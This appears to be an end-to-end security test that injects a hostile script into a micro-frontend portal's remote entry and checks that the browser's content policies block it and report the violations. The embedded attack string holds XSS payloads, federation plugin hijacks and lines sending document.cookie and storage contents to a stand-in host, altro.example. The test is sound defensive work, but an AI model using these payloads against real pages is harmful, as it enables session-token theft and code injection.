/**
 * A portal whose published code is hostile: the page's policies stop what it must not do, and
 * nothing of the session lies where it could read it. What no page can stop is code of one's own
 * origin calling the API as the person who is signed in: docs/security.md says so.
 */
import assert from 'node:assert/strict';
import { publishRelease, readBuilt } from '@bussola/portal-build/publisher';
import { speaksChromium, takeViolations } from '../harness/browser.ts';
import { signIn, superAdmin } from '../harness/people.ts';
import { goInPage, shown, staffVisit } from '../harness/portals.ts';
import { registryOf } from '../harness/product-on-copy.ts';
import { reissue } from '../harness/reissue.ts';
import { test } from '../harness/test.ts';
import { until } from '../harness/until.ts';
import { useProductOnCopy } from '../harness/use-product.ts';

const HOSTILE = 'hostile00000';

/**
 * Runs in the page with the portal's entry, as its own code would. Answers are left where the
 * journey finds them.
 */
const ATTACK = `(() => {
  const done = window.__hostile = { ran: [], stopped: {}, seen: '' };
  const attempt = (name, work) => { try { work(); } catch (error) { done.stopped[name] = error.name; } };
  attempt('eval', () => (0, eval)("window.__hostile.ran.push('eval')"));
  attempt('Function', () => new Function("window.__hostile.ran.push('Function')")());
  attempt('timer', () => setTimeout("window.__hostile.ran.push('timer')", 0));
  attempt('script of another site', () => { const tag = document.createElement('script'); tag.src = 'https://altro.example/x.js'; document.head.append(tag); });
  attempt('script that no list names', () => { const tag = document.createElement('script'); tag.src = '/assets/fonts.css'; document.head.append(tag); });
  attempt('script of text', () => { const tag = document.createElement('script'); tag.textContent = "window.__hostile.ran.push('text')"; document.head.append(tag); });
  attempt('markup', () => { const place = document.createElement('div'); place.innerHTML = '<img src=x onerror="window.__hostile.ran.push(1)">'; document.body.append(place); });
  attempt('handler', () => { const button = document.createElement('button'); button.setAttribute('onclick', "window.__hostile.ran.push('handler')"); document.body.append(button); button.click(); button.remove(); });
  attempt('javascript address', () => { const link = document.createElement('a'); link.href = "javascript:window.__hostile.ran.push('address')"; document.body.append(link); link.click(); link.remove(); });
  attempt('worker', () => { new Worker(URL.createObjectURL(new Blob(["postMessage(1)"]))).onmessage = () => done.ran.push('worker'); });
  attempt('frame', () => { const frame = document.createElement('iframe'); frame.src = 'https://altro.example/'; frame.onload = () => {}; document.body.append(frame); });
  attempt('base', () => { const base = document.createElement('base'); base.href = 'https://altro.example/'; document.head.append(base); if (document.baseURI.includes('altro')) done.ran.push('base'); base.remove(); });
  fetch('https://altro.example/?' + document.cookie, { mode: 'no-cors' }).then(() => done.ran.push('fetch'), () => { done.stopped.fetch = 'refused'; });
  attempt('beacon', () => { navigator.sendBeacon('https://altro.example/', 'x'); });
  const image = new Image(); image.onload = () => done.ran.push('image'); image.onerror = () => { done.stopped.image = 'refused'; }; image.src = 'https://altro.example/x.png';
  attempt('federation plugin', () => { __FEDERATION__.__GLOBAL_PLUGIN__.push({ name: 'x', loadEntry: () => { done.ran.push('federation plugin'); } }); });
  attempt('federation plugin list', () => { __FEDERATION__.__GLOBAL_PLUGIN__ = [{ name: 'x', loadEntry: () => { done.ran.push('federation plugin list'); } }]; });
  attempt('federation register', () => { window.__FEDERATION__ = window.__VMOK__ = { __GLOBAL_PLUGIN__: [], __INSTANCES__: [], __SHARE__: {} }; });
  attempt('federation constructor', () => { __FEDERATION__.__DEBUG_CONSTRUCTOR__ = class { constructor() { done.ran.push('federation constructor'); } }; });
  attempt('federation instances', () => { for (const instance of __FEDERATION__.__INSTANCES__) { done.ran.push('federation instances'); instance.registerPlugins([]); } });
  attempt('federation share scopes', () => { if (Object.keys(__FEDERATION__.__SHARE__).length > 0) done.ran.push('federation share scopes'); });
  attempt('federation loads', () => { for (const key of Object.keys(__GLOBAL_LOADING_REMOTE_ENTRY__)) done.ran.push('federation loads ' + key); __GLOBAL_LOADING_REMOTE_ENTRY__['x'] = Promise.reject(1).catch(() => 0); });
  attempt('federation runtime', () => { 'use strict'; __bussolaFederation__.bundlerRuntime.init = () => { done.ran.push('federation runtime'); }; });
  attempt('federation runtime replaced', () => { window.__bussolaFederation__ = { bundlerRuntime: { init: () => { done.ran.push('federation runtime replaced'); } } }; });
  attempt('federation debug', () => { localStorage.setItem('FEDERATION_DEBUG', '1'); });
  done.seen = [document.cookie, JSON.stringify({ ...localStorage }), JSON.stringify({ ...sessionStorage }), document.documentElement.outerHTML, Object.keys(window).map((key) => { try { return typeof window[key] === 'string' ? window[key] : ''; } catch { return ''; } }).join(' ')].join('\\n');
})();`;

test.describe('a hostile portal', () => {
  const product = useProductOnCopy();

  test('runs no text as code, loads nothing that no list names, sends nothing to another site, finds no token', async () => {
    const { distDir } = product;
    await reissue(distDir, 'thirdparty', {
      buildId: HOSTILE,
      describe: (manifest) => ({
        ...manifest,
        descriptor: {
          ...manifest.descriptor,
          budgets: { ...manifest.descriptor.budgets, entryKb: 10 },
        },
      }),
      edit: (file, text) => (file === 'remoteEntry.js' ? ATTACK + text : text),
    });
    await publishRelease(
      await registryOf(product),
      await readBuilt(distDir, 'thirdparty', HOSTILE),
      { channel: 'stable' },
    );

    const { page, context } = await staffVisit(product.browser, product.url, 'hostile');
    // A request that the policy stops is begun and ended inside the browser, and says so; one that
    // left would have found no such host.
    const STOPPED = ['csp', 'NS_BINDING_ABORTED', 'NS_ERROR_CONTENT_BLOCKED'];
    const away: string[] = [];
    const foreign = (address: string) =>
      /^https?:/.test(address) && !address.startsWith(product.url);
    page.on('requestfinished', (request) => {
      if (foreign(request.url())) away.push(request.url());
    });
    page.on('requestfailed', (request) => {
      if (foreign(request.url()) && !STOPPED.includes(request.failure()?.errorText ?? ''))
        away.push(`${request.url()} ${request.failure()?.errorText ?? ''}`);
    });
    let bearer = '';
    page.on('request', (request) => {
      bearer ||= request.headers()['authorization']?.replace('Bearer ', '') ?? '';
    });
    await page.goto('/thirdparty/clienti');
    assert.equal(await shown(page), 'ready');
    await page.waitForTimeout(1_500);
    const { ran, stopped, seen } = await page.evaluate(
      () =>
        (
          window as unknown as {
            __hostile: { ran: string[]; stopped: Record<string, string>; seen: string };
          }
        ).__hostile,
    );
    assert.deepEqual(ran, []);
    assert.deepEqual(away, [], 'nothing left for another site');
    for (const name of [
      'eval',
      'Function',
      'script of another site',
      'script that no list names',
      'script of text',
      'markup',
      'fetch',
      'image',
    ])
      assert.ok(name in stopped, `${name} was not stopped: ${JSON.stringify(stopped)}`);
    assert.ok(bearer.length > 50, 'a bearer was in use');
    assert.equal(seen.includes(bearer), false, 'the token is nowhere that a portal can read');
    assert.doesNotMatch(seen, /eyJ[\w-]{20,}/);
    assert.ok(takeViolations().length > 5, 'the policies said so');
    // And told the server, by themselves.
    const told = await toldOf(product.url);
    assert.deepEqual(
      EXPECTED.filter((one) => !told.includes(one)),
      [],
      told.join(', '),
    );
    assert.doesNotMatch(
      told.join(),
      /x\.js|x\.png|clienti|__Host/,
      'no address of a page or of a file, no cookie',
    );
    // The other portals still load, and federation never calls the plug-ins that the hostile
    // portal registered.
    await goInPage(page, '/admin/clienti');
    assert.equal(await shown(page), 'ready');
    assert.deepEqual(
      await page.evaluate(
        () => (window as unknown as { __hostile: { ran: string[] } }).__hostile.ran,
      ),
      [],
    );
    // Nor does what it left in the browser's storage reach the next page.
    await page.goto('/admin/clienti');
    assert.equal(await shown(page), 'ready');
    takeViolations();
    await context.close();
    // Who keeps the portals reads it, by the portal's name.
    const chief = await product.visit();
    await signIn(chief.page, superAdmin());
    await chief.page.goto('/admin/portali');
    const table = chief.page.getByRole('region', { name: 'Che cosa hanno fermato i browser?' });
    await table
      .getByRole('row')
      .filter({ hasText: 'Le aree affidate a te' })
      .filter({ hasText: 'connect-src' })
      .getByText('https://altro.example')
      .waitFor();
    await chief.context.close();
  });
});

const EXPECTED = [
  'connect-src https://altro.example',
  'img-src https://altro.example',
  'frame-src https://altro.example',
  'require-trusted-types-for trusted-types-sink',
];
// Firefox stops the script of an address too, but reports it under another name.
if (speaksChromium()) EXPECTED.push('script-src-elem inline');

/**
 * What the server has heard of the partners' portal, once all that is expected is in it; browsers
 * send reports when they see fit.
 */
async function toldOf(url: string): Promise<string[]> {
  const { email, password } = superAdmin();
  const entered = await fetch(`${url}/api/account/authenticate`, {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify({ email, password, remember: false }),
  });
  const { jwtToken } = (await entered.json()) as { jwtToken: string };
  let told: string[] = [];
  await until(
    async () => {
      const answer = await fetch(`${url}/api/admin/portals/status`, {
        headers: { authorization: `Bearer ${jwtToken}` },
      });
      assert.equal(answer.status, 200);
      const { violations } = (await answer.json()) as {
        violations: { portal: string; directive: string; blocked: string }[];
      };
      told = violations
        .filter(({ portal }) => portal === 'thirdparty')
        .map(({ directive, blocked }) => `${directive} ${blocked}`);
      return EXPECTED.every((one) => told.includes(one));
    },
    `reports of ${EXPECTED.join(', ')}`,
    90_000,
  );
  return told;
}
